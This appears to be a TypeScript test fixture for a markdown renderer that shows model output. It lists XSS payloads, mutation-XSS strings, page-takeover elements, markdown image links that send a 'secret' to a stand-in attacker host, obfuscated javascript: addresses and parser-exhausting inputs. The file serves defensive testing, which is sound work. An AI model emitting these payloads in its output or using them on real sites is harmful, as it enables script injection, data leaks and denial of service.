/** What models may be made to write, one thing a line or block: known attacks on pages that show markdown. */

const HARM = 'window.harmed=1';

/** HTML that would run something, wherever it was believed. */
const SCRIPTS = [
  `<script>${HARM}</script>`,
  `<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
  `<script\n>${HARM}</script\n>`,
  `<img src=x onerror=${HARM}>`,
  `<img src="x" onerror="${HARM}" />`,
  `<IMG """><SCRIPT>${HARM}</SCRIPT>">`,
  `<img src=x:x onerror&equals;"${HARM}">`,
  `<body onload=${HARM}>`,
  `<input autofocus onfocus=${HARM}>`,
  `<details open ontoggle=${HARM}>`,
  `<video><source onerror="${HARM}"></video>`,
  `<audio src=x onerror=${HARM}>`,
  `<marquee onstart=${HARM}>x</marquee>`,
  `<div style="animation-name:caret" onanimationstart="${HARM}">x</div>`,
  `<p onmouseover="${HARM}">x</p>`,
  `<select autofocus onfocus=${HARM}></select>`,
  `<x onclick=${HARM} tabindex=0 autofocus onfocus=${HARM}>x</x>`,
];

const SVG = [
  `<svg onload=${HARM}></svg>`,
  `<svg/onload=${HARM}//`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg><script href="data:,${HARM}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${HARM}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${HARM}' /></svg>#x"/></svg>`,
  `<svg><animate onbegin=${HARM} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${HARM}"><text x="20" y="20">x</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${HARM}">x</maction></math>`,
];

/** Parsers that disagree about where something ends (mutation XSS). */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HARM}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HARM}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HARM}></style></mglyph></form>`,
  `<template><img src=x onerror=${HARM}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${HARM}>">`,
  `<listing>&lt;img src=x onerror=${HARM}&gt;</listing>`,
  `<textarea></textarea><img src=x onerror=${HARM}></textarea>`,
  `<!--><img src=x onerror=${HARM}>-->`,
  `<![CDATA[><img src=x onerror=${HARM}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${HARM}>`,
  `<a href="https://e.example/\`"onmouseover=${HARM} x=\`">x</a>`,
  `&lt;img src=x onerror=${HARM}&gt;`,
  `&#60;img src=x onerror=${HARM}&#62;`,
  '`` <img src=x onerror=window.harmed=1> ``',
  `<title><img src=x onerror=${HARM}></title>`,
];

/** Elements that change the page, or take the person elsewhere. */
const TAKEOVERS = [
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/o"></object>',
  '<embed src="https://evil.example/e">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
  '<link rel=stylesheet href="https://evil.example/l.css">',
  '<link rel=prefetch href="https://evil.example/p">',
  '<form action="https://evil.example/f"><button>Send</button></form>',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/i.css";</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/bg)">Log in again</div>',
  '<a id="app"></a><a id="location" name="href"></a><form id="document"><input name="cookie"></form>',
  '<img name="getElementById"><img id="harmed">',
  '<button class="btn primary" onclick="window.harmed=1">Apply</button>',
];

/** Requests that would carry what was said to somebody else. */
const LEAKS = [
  '![leak](https://evil.example/?q=secret)',
  '![leak][1]\n\n[1]: https://evil.example/ref?q=secret',
  '[![nested](https://evil.example/n?q=secret)](https://netbox.dev/)',
  '<img src="https://evil.example/html?q=secret">',
  '<img srcset="https://evil.example/set 1x">',
  '<picture><source srcset="https://evil.example/picture"></picture>',
  '<video poster="https://evil.example/poster"></video>',
  '<body background="https://evil.example/body">',
  '<table background="https://evil.example/table"><tr><td>x</td></tr></table>',
  '<svg><image href="https://evil.example/svg"/></svg>',
  '| a |\n|---|\n| ![x](https://evil.example/cell) |',
  '- ![x](//evil.example/list)',
  '> ![x](https://evil.example/quote "title")',
];

/** Each as the address of a link; none may become one. */
export const BAD_ADDRESSES = [
  `javascript:${HARM}`,
  `JaVaScRiPt:${HARM}`,
  `javascript&colon;${HARM}`,
  `java&Tab;script:${HARM}`,
  `java&NewLine;script:${HARM}`,
  `&#106;avascript:${HARM}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${HARM}`,
  `\u0001javascript:${HARM}`,
  `\u200bjavascript:${HARM}`,
  `java\u00adscript:${HARM}`,
  `%6Aavascript:${HARM}`,
  `javascript://netbox.dev/%0a${HARM}`,
  `vbscript:${HARM}`,
  `data:text/html,<script>${HARM}</script>`,
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'blob:https://netbox.dev/1',
  'filesystem:https://netbox.dev/1',
  'file:///etc/passwd',
  'view-source:https://netbox.dev',
  'intent://evil#Intent;end',
  '//evil.example/x',
  '/sign-out',
  '#link=stolen',
  '?a=b',
  'https://',
];

export const ATTACKS = [
  ...SCRIPTS,
  ...SVG,
  ...MUTATIONS,
  ...TAKEOVERS,
  ...LEAKS,
  ...BAD_ADDRESSES.map((address) => `[bad link](<${address}>)`),
  ...BAD_ADDRESSES.slice(0, 4).map((address) => `<a href="${address}">bad link</a>`),
  ...BAD_ADDRESSES.slice(0, 4).map((address) => `![bad link](<${address}>)`),
  `[bad link][js]\n\n[js]: javascript:${HARM}`,
  `[x](https://e.example "t\\" onmouseover=${HARM} x=\\"")`,
  `\`\`\`"><img/src=x/onerror=${HARM}>\ncode\n\`\`\``,
  `\`\`\`html\n<script>${HARM}</script>\n\`\`\``,
  `# <img src=x onerror=${HARM}>`,
  `| <img src=x onerror=${HARM}> | b |\n|---|---|\n| <script>${HARM}</script> | c |`,
];

const deep = 10_000;

/** Small texts that keep a careless parser busy for minutes, or end its stack. */
export const BOMBS: readonly (readonly [name: string, text: string])[] = [
  ['quotes', `${'>'.repeat(deep)} x`],
  ['quotes and lists', `${'> - '.repeat(deep)}x`],
  ['lists in a line', `${'- '.repeat(deep)}x`],
  ['numbers in a line', `${'1. '.repeat(deep)}x`],
  ['lists that go in', Array.from({ length: 600 }, (_, n) => `${'  '.repeat(n)}- x`).join('\n')],
  ['brackets', `${'['.repeat(deep)}a${']'.repeat(deep)}`],
  ['links that do not end', '[*a]('.repeat(deep)],
  ['images', '!['.repeat(deep)],
  ['stars', `${'*'.repeat(deep)}a${'*'.repeat(deep)}`],
  ['underlines', `${'_'.repeat(deep)}a${'_'.repeat(deep)}`],
  ['stars and words', '**a *b '.repeat(deep)],
  ['backticks', '`a``b'.repeat(deep)],
  ['tags', '<a '.repeat(deep)],
  ['dots', `${'a.'.repeat(deep)}@`],
  ['rules', `${'* * '.repeat(deep)}a`],
  ['one word', 'a'.repeat(200_000)],
  ['rows', `| a | b |\n|---|---|\n${'| c | d |\n'.repeat(deep)}`],
  [
    'columns',
    `${'| a '.repeat(3_000)}|\n${'|---'.repeat(3_000)}|\n${`${'| b '.repeat(3_000)}|\n`.repeat(5)}`,
  ],
  ['items', '- a\n\n'.repeat(5_000)],
];
